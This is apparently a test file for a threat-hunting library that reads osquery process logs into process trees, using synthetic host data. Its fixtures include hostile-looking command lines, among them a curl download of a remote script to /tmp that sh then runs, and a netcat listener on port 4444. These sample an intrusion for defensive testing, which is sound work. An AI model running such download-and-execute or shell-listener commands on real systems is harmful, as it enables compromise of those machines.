/**
 * osqueryd's result log: `process_events` differential lines (`{"name", "hostIdentifier", "columns": {…}, "action":
 * "added"}`, every value text) and `processes` snapshot lines (`{"snapshot": [{…}, …], "action": "snapshot"}`):
 * detected, mapped onto the lab's names, and built into a process tree. Synthetic lines in osquery's logger format.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { describe, it } from "node:test";
import pl from "nodejs-polars";
import { buildProcessTree, inferProcessSchema, ptree } from "../../../src/index";
import { readDataFile } from "../../../src/data/readers";
import { detectEventSchema, normalizeEvents } from "../../../src/data/schemas/index";
import { tempDir } from "../../helpers/tmp";
import { columnNames } from "../../../src/common/frames";

const T0 = 1772359200; // 2026-03-01T10:00:00Z
const header = (name: string, host: string, t: number) => ({
  name,
  hostIdentifier: host,
  calendarTime: new Date(t * 1000).toUTCString().replace("GMT", "UTC"),
  unixTime: t,
  epoch: 0,
  counter: 1,
  numerics: false,
  decorations: { host_uuid: `uuid-${host}` },
});

/** process_events: sshd (not in the data) → bash → curl, bash → sh; PID 2200 reused on another host; a `removed` line and another query's line. */
function processEvents() {
  const ev = (host: string, dt: number, pid: number, parent: number, p: string, cmdline: string, action = "added") => ({
    ...header("pack_hunting_process_events", host, T0 + dt + 5),
    columns: { pid: String(pid), parent: String(parent), path: p, cmdline, cwd: "/home/dana", uid: "1001", auid: "1001", euid: "1001", time: String(T0 + dt), syscall: "execve", eid: String(7000 + dt), cmdline_size: String(cmdline.length) },
    action,
  });
  return [
    ev("web-01", 0, 2200, 1800, "/usr/bin/bash", "-bash"),
    ev("web-01", 2, 2210, 2200, "/usr/bin/curl", "curl -s http://203.0.113.7/x.sh -o /tmp/x.sh"),
    ev("web-01", 3, 2215, 2200, "/usr/bin/sh", "sh /tmp/x.sh"),
    ev("db-01", 4, 2200, 1, "/usr/sbin/cron", "/usr/sbin/cron -f"),
    // A differential query's removed row is no process start; another query's row has no process columns.
    ev("web-01", 9, 2210, 2200, "/usr/bin/curl", "curl", "removed"),
    { ...header("pack_hunting_listening_ports", "web-01", T0 + 10), columns: { port: "4444", address: "0.0.0.0", pid: "2215" }, action: "added" },
  ];
}

function write(name: string, lines: unknown[]): string {
  const file = path.join(tempDir(), name);
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
  return file;
}

const col = (df: pl.DataFrame, name: string) => df.getColumn(name).toArray() as unknown[];
/** buildProcessTree's warning about processEvents()'s listening_ports line. */
const LISTENING_PORTS_LEFT_OUT = 'buildProcessTree: 1 row(s) of osquery queries other than the process tables are left out ("pack_hunting_listening_ports" ×1): a process row has a pid and a parent (process_events, processes); select a query\'s rows by its "name" to read them apart';

describe("osquery result logs", () => {
  it("process_events (differential): detected, the lab's names added, epoch-second text times read; the tree links pid ← parent per host", () => {
    const raw = readDataFile(write("osqueryd.results.log", processEvents()));
    assert.equal(raw.getColumn("columns").dtype.variant, "Struct");
    assert.equal(detectEventSchema(raw, "process").name, "osquery process_events");
    const df = normalizeEvents(raw, "process");
    assert.deepEqual(col(df, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh", "/usr/sbin/cron"], "the removed row and the other query's row are left out");
    assert.deepEqual(col(df, "Computer"), ["web-01", "web-01", "web-01", "db-01"]);
    assert.deepEqual(col(df, "CommandLine")[1], "curl -s http://203.0.113.7/x.sh -o /tmp/x.sh");
    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
    assert.equal((col(df, "TimeGenerated")[0] as Date).toISOString(), "2026-03-01T10:00:00.000Z");
    assert.equal(inferProcessSchema(columnNames(df))?.name, "osquery process_events");

    const tree = buildProcessTree(df);
    const bash = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/bash")));
    assert.deepEqual(col(ptree.getChildren(tree, bash), "NewProcessName").sort(), ["/usr/bin/curl", "/usr/bin/sh"]);
    // db-01's PID 2200 is not web-01's bash: its parent is its own rebuilt PID 1.
    const cron = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/sbin/cron")));
    assert.deepEqual(col(ptree.getParent(tree, cron), "hostIdentifier"), ["db-01"]);
    assert.deepEqual(col(ptree.getParent(tree, cron), "columns.pid"), ["1"]);
    assert.equal(ptree.getSummaryInfo(tree).InferredProcesses, 2, "sshd's 1800 on web-01, PID 1 on db-01");
  });

  it("rows of other scheduled queries (listening_ports with a pid and path, users) are no processes: left out of the tree with a warning naming the queries, and of the mapping", () => {
    const other = [
      { ...header("pack_net_listening_ports", "web-01", T0 + 11), columns: { pid: "2215", port: "4444", protocol: "6", address: "0.0.0.0", path: "", fd: "3", socket: "881", family: "2" }, action: "added" },
      { ...header("pack_net_listening_ports", "web-01", T0 + 12), columns: { pid: "2200", port: "0", protocol: "0", address: "", path: "/run/x.sock", fd: "4", socket: "882", family: "1" }, action: "added" },
      { ...header("pack_sys_users", "web-01", T0 + 13), columns: { uid: "1001", gid: "1001", username: "dana", directory: "/home/dana", shell: "/bin/bash" }, action: "added" },
    ];
    const raw = readDataFile(write("mixed.log", [...processEvents().slice(0, 4), ...other]));
    const warnings: string[] = [];
    const tree = buildProcessTree(raw, { warn: (m) => warnings.push(m) });
    const real = tree.filter(pl.col("IsInferred").not());
    assert.deepEqual(col(real, "columns.path").sort(), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh", "/usr/sbin/cron"], "no nameless nodes of the other queries' rows");
    assert.deepEqual(col(real, "source_index").sort(), ["00000", "00001", "00002", "00003"], "numbered as the log's rows");
    assert.deepEqual(warnings, ['buildProcessTree: 3 row(s) of osquery queries other than the process tables are left out ("pack_net_listening_ports" ×2, "pack_sys_users" ×1): a process row has a pid and a parent (process_events, processes); select a query\'s rows by its "name" to read them apart']);
    // normalizeEvents leaves them out as it leaves out an OCSF file's other classes, without a word; a socket's path made a process of it.
    const df = normalizeEvents(raw, "process", { warn: (m) => assert.fail(m) });
    assert.deepEqual(col(df, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh", "/usr/sbin/cron"], "a listening port's pid and path are no process");
  });

  it("processes (snapshot lines): each snapshot row a process, with its line's host; start_time is the time", () => {
    const snap = (host: string, rows: [number, number, string, string, string, number][]) => ({
      ...header("pack_hunting_processes", host, T0 + 60),
      snapshot: rows.map(([pid, parent, name, p, cmdline, start]) => ({ pid: String(pid), parent: String(parent), name, path: p, cmdline, start_time: String(start), state: "S", threads: "1", uid: "0", on_disk: "1" })),
      action: "snapshot",
    });
    const lines = [
      snap("web-01", [
        [1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", T0 - 86400],
        [900, 1, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", T0 - 86000],
        [2200, 900, "bash", "/usr/bin/bash", "-bash", T0],
      ]),
      snap("db-01", [[1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", T0 - 3600]]),
    ];
    const raw = readDataFile(write("osqueryd.snapshots.log", lines));
    assert.equal(raw.height, 2);
    assert.equal(detectEventSchema(raw, "process").name, "osquery processes");
    const df = normalizeEvents(raw, "process");
    assert.equal(df.height, 4, "one row per snapshot row");
    assert.deepEqual(col(df, "Computer"), ["web-01", "web-01", "web-01", "db-01"]);
    assert.deepEqual(col(df, "action"), ["snapshot", "snapshot", "snapshot", "snapshot"]);
    assert.equal((col(df, "TimeGenerated")[2] as Date).toISOString(), "2026-03-01T10:00:00.000Z");
    const tree = buildProcessTree(df);
    const systemd = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/lib/systemd/systemd")).and(pl.col("Computer").eq(pl.lit("web-01"))));
    assert.deepEqual(col(ptree.getDescendents(tree, systemd), "NewProcessName"), ["/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/bin/bash"]);
  });

  it("a scheduled processes snapshot seen at several runs: a process (host, pid, path, start_time) is one row and one node, its earliest sighting; pid reuse (another start_time) stays apart", () => {
    type Row = [number, number, string, string, number];
    const snap = (host: string, at: number, rows: Row[]) => ({
      ...header("pack_hunting_processes", host, at),
      snapshot: rows.map(([pid, parent, p, cmdline, start]) => ({ pid: String(pid), parent: String(parent), name: p.split("/").pop(), path: p, cmdline, start_time: String(start), state: "S", uid: "0" })),
      action: "snapshot",
    });
    const systemd: Row = [1, 0, "/usr/lib/systemd/systemd", "/sbin/init", T0 - 86400];
    const sshd: Row = [900, 1, "/usr/sbin/sshd", "sshd -D", T0 - 86000];
    const bash: Row = [2200, 900, "/usr/bin/bash", "-bash", T0];
    const nc: Row = [2300, 2200, "/usr/bin/nc", "nc -l 4444", T0 + 100];
    // The third run: bash has exited and its pid 2200 went to a new process (another start_time) under systemd.
    const reused: Row = [2200, 1, "/usr/bin/python3", "python3 -m http.server", T0 + 150];
    const lines = [
      // Written out of order (a forwarder): the earliest run is kept whatever the line order.
      snap("web-01", T0 + 120, [systemd, sshd, bash, nc]),
      snap("web-01", T0 + 60, [systemd, sshd, bash]),
      snap("web-01", T0 + 180, [systemd, sshd, reused]),
      // Another host's systemd: the same pid and start key on another host is another process.
      snap("db-01", T0 + 60, [systemd]),
      snap("db-01", T0 + 120, [systemd]),
    ];
    // The same runs as one line per row (osqueryd's --logger_snapshot_event_type), `columns` as process_events lines have.
    const perRow = lines.flatMap(({ snapshot, ...line }) => snapshot.map((columns) => ({ ...line, columns })));
    for (const [label, file] of [["snapshot lines", "osqueryd.scheduled.log"], ["one line per row", "osqueryd.scheduled-rows.log"]] as const) {
      const raw = readDataFile(write(file, label === "snapshot lines" ? lines : perRow));
      assert.equal(detectEventSchema(raw, "process").name, "osquery processes", label);
      const df = normalizeEvents(raw, "process");
      const seen = df.select(pl.col("Computer"), pl.col("NewProcessName"), pl.col("unixTime").cast(pl.Int64)).toRecords().map((r) => `${r.Computer} ${r.NewProcessName} ${r.unixTime}`);
      assert.deepEqual(
        seen.sort(),
        [`db-01 /usr/lib/systemd/systemd ${T0 + 60}`, `web-01 /usr/bin/bash ${T0 + 60}`, `web-01 /usr/bin/nc ${T0 + 120}`, `web-01 /usr/bin/python3 ${T0 + 180}`, `web-01 /usr/lib/systemd/systemd ${T0 + 60}`, `web-01 /usr/sbin/sshd ${T0 + 60}`],
        label,
      );
      // buildProcessTree reads the rows of `columns` (not snapshot lines): the normalized frame, and the per-row log as read.
      for (const frame of label === "snapshot lines" ? [df] : [df, raw]) {
        const tree = buildProcessTree(frame);
        assert.equal(tree.filter(pl.col("IsInferred").not()).height, 6, `${label}: one node per process`);
        assert.equal(new Set(col(tree, "proc_key")).size, tree.height);
        const at = (p: string) => tree.filter(pl.col("columns.path").eq(pl.lit(p)).and(pl.col("hostIdentifier").eq(pl.lit("web-01"))));
        assert.deepEqual(col(ptree.getChildren(tree, at("/usr/bin/bash")), "columns.path"), ["/usr/bin/nc"], label);
        assert.deepEqual(col(ptree.getParent(tree, at("/usr/bin/python3")), "columns.path"), ["/usr/lib/systemd/systemd"], `${label}: pid 2200 reused, its own parent`);
      }
    }
  });

  describe("process_events and processes rows in one log (one pack schedules both): each row at its own time, one tree", () => {
    const procs = (host: string, pid: number, parent: number, p: string, start: number) => ({
      ...header("pack_hunting_processes", host, T0 + 30),
      columns: { pid: String(pid), parent: String(parent), path: p, name: path.posix.basename(p), cmdline: p, state: "S", threads: "1", resident_size: "1", on_disk: "1", uid: "0", start_time: String(start) },
      action: "added",
    });
    // web-01's long-running sshd (1800, bash's parent) and systemd seen by `processes`; nc started from bash; db-01 by `processes` only.
    const processes = () => [
      procs("web-01", 1, 0, "/usr/lib/systemd/systemd", T0 - 86400),
      procs("web-01", 1800, 1, "/usr/sbin/sshd", T0 - 86000),
      procs("web-01", 2300, 2200, "/usr/bin/nc", T0 + 20),
      procs("db-01", 1, 0, "/usr/lib/systemd/systemd", T0 - 3600),
      procs("db-01", 2200, 1, "/usr/sbin/cron", T0 - 3000),
    ];
    const orders: [string, () => unknown[]][] = [
      ["process_events first", () => [...processEvents(), ...processes()]],
      ["processes first, interleaved", () => processes().flatMap((p, i) => [p, processEvents()[i]]).concat(processEvents().slice(processes().length)).filter(Boolean)],
    ];
    for (const [label, lines] of orders) {
      it(`${label}: detected as both tables, every row mapped with its own time, no warning; the tree links process_events rows to processes rows' parents`, () => {
        const raw = readDataFile(write("both.log", lines()));
        assert.equal(detectEventSchema(raw, "process").name, "osquery process_events and processes");
        const warnings: string[] = [];
        const df = normalizeEvents(raw, "process", { source: "both.log", warn: (m) => warnings.push(m) });
        assert.deepEqual(warnings, []);
        assert.equal(df.height, 9, "4 process_events and 5 processes rows; the removed row and the other query's row left out");
        const at = (p: string, host: string) => df.filter(pl.col("NewProcessName").eq(pl.lit(p)).and(pl.col("Computer").eq(pl.lit(host))));
        const time = (p: string, host: string) => (col(at(p, host), "TimeGenerated")[0] as Date).toISOString();
        assert.equal(time("/usr/bin/curl", "web-01"), "2026-03-01T10:00:02.000Z", "process_events: columns.time");
        assert.equal(time("/usr/sbin/sshd", "web-01"), new Date((T0 - 86000) * 1000).toISOString(), "processes: columns.start_time");
        assert.equal(time("/usr/bin/nc", "web-01"), "2026-03-01T10:00:20.000Z");
        assert.equal(df.getColumn("TimeGenerated").nullCount(), 0);
        assert.equal(inferProcessSchema(columnNames(df))?.name, "osquery process_events and processes");

        for (const input of [raw, df]) {
          const quiet: string[] = [];
          const tree = buildProcessTree(input, { warn: (m) => quiet.push(m) });
          // The raw log's listening_ports row is no process: left out, said (it was left out silently here, a nameless node in a one-table log).
          assert.deepEqual(quiet, input === raw ? [LISTENING_PORTS_LEFT_OUT] : []);
          const image = (host: string, p: string) => tree.filter(pl.col("hostIdentifier").eq(pl.lit(host)).and(pl.col("columns.path").eq(pl.lit(p))));
          // web-01: systemd → sshd (processes) → bash (process_events) → curl, sh (process_events) and nc (processes).
          // (The chain root first, bash itself last; systemd's parent, PID 0, is rebuilt.)
          assert.deepEqual(col(ptree.getAncestors(tree, image("web-01", "/usr/bin/bash")), "columns.path").slice(1), ["/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/bin/bash"]);
          assert.deepEqual(col(ptree.getChildren(tree, image("web-01", "/usr/bin/bash")), "columns.path").sort(), ["/usr/bin/curl", "/usr/bin/nc", "/usr/bin/sh"]);
          // db-01: cron (process_events, PID 2200 as web-01's bash) under db-01's own systemd, not web-01's; its processes-row cron too.
          const crons = image("db-01", "/usr/sbin/cron");
          assert.equal(crons.height, 2, "cron seen by both tables");
          for (let i = 0; i < crons.height; i += 1) assert.deepEqual(col(ptree.getParent(tree, crons.slice(i, 1)), "hostIdentifier"), ["db-01"]);
          assert.equal(ptree.getSummaryInfo(tree).InferredProcesses, 2, "every parent is in the log but each host's PID 0");
          assert.equal(new Set(col(tree, "proc_key")).size, tree.height);
        }
      });
    }

    it("a process both tables saw (same host, pid and path; start_time within a second of the event's time) is one row and one node, its process_events row (it was two)", () => {
      // The snapshot sees curl and sh later: curl reparented to init and its argv rewritten; sh's start second rounded up.
      // PID 2210 again at T0 + 500 with the same path is another process (PID reuse): kept.
      const seenTwice = [procs("web-01", 2210, 1, "/usr/bin/curl", T0 + 2), procs("web-01", 2215, 2200, "/usr/bin/sh", T0 + 4), procs("web-01", 2210, 1, "/usr/bin/curl", T0 + 500)];
      const raw = readDataFile(write("both-twice.log", [...processEvents(), ...processes(), ...seenTwice]));
      const df = normalizeEvents(raw, "process");
      assert.equal(df.height, 10, "9 as without the snapshot's repeats, and the later curl");
      const curls = df.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/curl")));
      assert.deepEqual(col(curls, "CommandLine"), ["curl -s http://203.0.113.7/x.sh -o /tmp/x.sh", "/usr/bin/curl"], "process_events' row wins");
      assert.deepEqual(col(curls, "columns.parent").map(String), ["2200", "1"]);
      assert.equal(df.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/sh"))).height, 1);
      for (const input of [raw, df]) {
        const tree = buildProcessTree(input);
        const image = (p: string) => tree.filter(pl.col("hostIdentifier").eq(pl.lit("web-01")).and(pl.col("columns.path").eq(pl.lit(p))));
        assert.deepEqual(col(ptree.getChildren(tree, image("/usr/bin/bash")), "columns.path").sort(), ["/usr/bin/curl", "/usr/bin/nc", "/usr/bin/sh"]);
        assert.equal(image("/usr/bin/curl").height, 2);
        assert.equal(image("/usr/bin/sh").height, 1);
        assert.equal(new Set(col(tree, "proc_key")).size, tree.height);
        // Numbered as the input's rows: the raw log's curls are its rows 1 (process_events) and 13 (the later one).
        if (input === raw) assert.deepEqual(col(image("/usr/bin/curl"), "source_index").sort(), ["00001", "00013"]);
      }
    });

    it("each table selected apart by name is read in its own layout (the struct keeps the other's fields, null)", () => {
      const raw = readDataFile(write("both.log", [...processEvents().slice(0, 3), ...processes()]));
      const apart = raw.filter(pl.col("name").eq(pl.lit("pack_hunting_processes")));
      assert.equal(detectEventSchema(apart, "process").name, "osquery processes");
      const quiet: string[] = [];
      const nc = normalizeEvents(apart, "process", { warn: (m) => quiet.push(m) });
      assert.deepEqual(quiet, []);
      assert.equal((col(nc, "TimeGenerated")[2] as Date).toISOString(), "2026-03-01T10:00:20.000Z");
      assert.equal(inferProcessSchema(columnNames(nc))?.name, "osquery processes");
      const events = raw.filter(pl.col("name").eq(pl.lit("pack_hunting_process_events")));
      assert.equal(detectEventSchema(events, "process").name, "osquery process_events");
      assert.deepEqual(col(normalizeEvents(events, "process"), "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh"]);
      // The tree of the raw rows selected apart: their own layout's time.
      const treeWarnings: string[] = [];
      const tree = buildProcessTree(apart, { warn: (m) => treeWarnings.push(m) });
      assert.equal(tree.filter(pl.col("IsInferred").not()).height, 5);
      assert.deepEqual(treeWarnings, []);
    });
  });

  it("differential and snapshot lines in one log (a pack's differential process_events and snapshot processes): both forms' rows read, each at its own time, one tree", () => {
    const snap = (host: string, pids: number[]) => ({
      ...header("pack_hunting_processes", host, T0 + 60),
      snapshot: pids.map((pid) => ({ pid: String(pid), parent: pid === 1800 ? "1" : "1800", name: "sh", path: pid === 1800 ? "/usr/sbin/sshd" : "/usr/bin/sh", cmdline: "sh", start_time: String(T0 - 100 + (pid % 10)), uid: "0", state: "S" })),
      action: "snapshot",
    });
    for (const lines of [
      [...processEvents().slice(0, 3), snap("web-01", [1800, 3001, 3002]), snap("db-01", [])],
      [snap("web-01", [1800, 3001, 3002]), snap("db-01", []), ...processEvents().slice(0, 3)],
    ]) {
      const file = write("mixed-forms.log", lines);
      const raw = readDataFile(file);
      const warnings: string[] = [];
      const df = normalizeEvents(raw, "process", { file, warn: (m) => warnings.push(m) });
      assert.deepEqual(warnings, []);
      assert.deepEqual(col(df, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh", "/usr/sbin/sshd", "/usr/bin/sh", "/usr/bin/sh"], "the differential rows, then the snapshot rows");
      assert.deepEqual(col(df, "action"), ["added", "added", "added", "snapshot", "snapshot", "snapshot"]);
      assert.deepEqual(col(df, "TimeGenerated").map((t) => (t as Date).getTime() / 1000 - T0), [0, 2, 3, -100, -99, -98]);
      assert.equal(detectEventSchema(raw, "process").name, "osquery process_events and processes");
      // bash (process_events) under the snapshot's sshd (1800), which started before it.
      const treeWarnings: string[] = [];
      const tree = buildProcessTree(df, { warn: (m) => treeWarnings.push(m) });
      const bash = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/bash")));
      assert.deepEqual(col(ptree.getParent(tree, bash), "NewProcessName"), ["/usr/sbin/sshd"]);
      assert.deepEqual(col(ptree.getChildren(tree, tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/sbin/sshd")))), "columns.pid").map(String).sort(), ["2200", "3001", "3002"]);
      assert.deepEqual(treeWarnings, []);
    }
    // A forwarder that wrote the snapshot as text: its line's rows cannot be read, and are counted in a warning naming the file.
    const text = { ...header("pack_hunting_processes", "web-01", T0 + 60), snapshot: '[{"pid":"3000"}]', action: "snapshot" };
    const file = write("forwarded.log", [...processEvents().slice(0, 3), text]);
    const warnings: string[] = [];
    const df = normalizeEvents(readDataFile(file), "process", { file, warn: (m) => warnings.push(m) });
    assert.deepEqual(col(df, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh"]);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: 1 row\\(s\\) of osquery snapshot lines \\("snapshot": \\[\\.\\.\\.\\]\\) are left out`));
    // A log of one form: no such warning.
    const quiet: string[] = [];
    normalizeEvents(readDataFile(write("differential-only.log", processEvents().slice(0, 3))), "process", { warn: (m) => quiet.push(m) });
    assert.deepEqual(quiet.filter((m) => m.includes("snapshot")), []);
  });

  it("buildProcessTree on the raw log (not normalized): process_events and repeated processes snapshots, as snapshot lines or one line per row: one node per process, as normalizeEvents' rows give", () => {
    type Row = [number, number, string, number];
    const columns = ([pid, parent, p, start]: Row) => ({ pid: String(pid), parent: String(parent), name: path.posix.basename(p), path: p, cmdline: p, start_time: String(start), state: "S", uid: "0" });
    const snapLine = (host: string, at: number, rows: Row[]) => ({ ...header("pack_hunting_processes", host, at), snapshot: rows.map(columns), action: "snapshot" });
    const systemd: Row = [1, 0, "/usr/lib/systemd/systemd", T0 - 86400];
    const sshd: Row = [1800, 1, "/usr/sbin/sshd", T0 - 86000];
    const cronDb: Row = [700, 1, "/usr/sbin/crond", T0 - 50000];
    // Three runs of `processes` on web-01 (sshd gone by the third), two on db-01, around process_events' bash → curl, sh.
    const snapshots = [snapLine("web-01", T0 + 60, [systemd, sshd]), snapLine("db-01", T0 + 60, [systemd, cronDb]), snapLine("web-01", T0 + 120, [systemd, sshd]), snapLine("db-01", T0 + 120, [systemd, cronDb]), snapLine("web-01", T0 + 180, [systemd])];
    const perRow = snapshots.flatMap(({ snapshot, ...line }) => snapshot.map((c) => ({ ...line, columns: c })));
    const expected = ["db-01 /usr/lib/systemd/systemd", "db-01 /usr/sbin/cron", "db-01 /usr/sbin/crond", "web-01 /usr/bin/bash", "web-01 /usr/bin/curl", "web-01 /usr/bin/sh", "web-01 /usr/lib/systemd/systemd", "web-01 /usr/sbin/sshd"];
    // process_events' lines without the other query's (listening_ports), which a raw tree takes for a nameless process.
    const events = processEvents().slice(0, 5);
    for (const [label, lines] of [
      ["processes snapshot lines after process_events", [...events, ...snapshots]],
      ["processes snapshot lines first", [...snapshots, ...events]],
      ["processes one line per row", [...events, ...perRow]],
    ] as const) {
      const raw = readDataFile(write("both-tables.log", [...lines]));
      for (const [which, frame] of [["raw", raw], ["normalized", normalizeEvents(raw, "process")]] as const) {
        const warnings: string[] = [];
        const tree = buildProcessTree(frame, { warn: (m) => warnings.push(m) });
        const what = `${label}, ${which}`;
        const real = tree.filter(pl.col("IsInferred").not());
        const host = which === "raw" ? "hostIdentifier" : "Computer";
        const image = which === "raw" ? "columns.path" : "NewProcessName";
        assert.deepEqual(real.select(pl.concatString([pl.col(host), pl.col(image)], " ").alias("p")).getColumn("p").toArray().sort(), expected, `${what}: one node per process`);
        assert.deepEqual(warnings, [], what);
        const at = (p: string) => tree.filter(pl.col(image).eq(pl.lit(p)).and(pl.col(host).eq(pl.lit("web-01"))));
        assert.deepEqual(col(ptree.getParent(tree, at("/usr/bin/bash")), image), ["/usr/sbin/sshd"], `${what}: bash under the snapshot's sshd`);
        assert.deepEqual(col(ptree.getParent(tree, at("/usr/sbin/sshd")), image), ["/usr/lib/systemd/systemd"], what);
      }
    }
    // Snapshot lines of `processes` alone, raw: their processes, not one nameless node per line.
    const tree = buildProcessTree(readDataFile(write("snapshots-only.log", snapshots)));
    assert.deepEqual(col(tree.filter(pl.col("IsInferred").not()), "columns.path").map(String).sort(), ["/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd", "/usr/sbin/crond", "/usr/sbin/sshd"]);
  });
});
